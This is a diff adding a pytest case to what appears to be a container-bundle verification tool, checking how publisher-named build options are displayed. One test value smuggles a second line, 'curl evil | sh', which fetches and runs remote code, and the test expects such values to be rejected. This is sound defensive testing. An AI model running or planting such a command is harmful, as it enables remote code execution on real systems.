@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from typing import Any, cast
 
 import pytest
@@ -34,3 +35,14 @@ def test_the_commit_that_a_publisher_names(commit: str, shown: bool, monkeypatch
     monkeypatch.setattr(bundles, "read_bundle", lambda *_: cast("Any", None))
     (found,) = bundles.bundles_of(cast("Registry", None), Reference.parse("a.io/b"), IMAGE)
     assert (found.revision is not None) == shown
+
+
+@pytest.mark.parametrize(("text", "shown"), [("nccl.functions=all", True), ("x\n  next:  curl evil | sh", False)])
+def test_the_options_that_a_publisher_names(text: str, shown: bool, monkeypatch: pytest.MonkeyPatch) -> None:
+    """`verify --project` prints them when the plan is not the project's."""
+    said = {"org.builder.profile": text, "org.builder.set": json.dumps([text])}
+    monkeypatch.setattr(bundles, "attached", lambda *_: [{"digest": IMAGE}])
+    monkeypatch.setattr(bundles, "read_attached", lambda *_: Attached(b"{}", IMAGE, said))
+    monkeypatch.setattr(bundles, "read_bundle", lambda *_: cast("Any", None))
+    (found,) = bundles.bundles_of(cast("Registry", None), Reference.parse("a.io/b"), IMAGE)
+    assert (found.profile, found.sets) == ((text, (text,)) if shown else (None, ()))
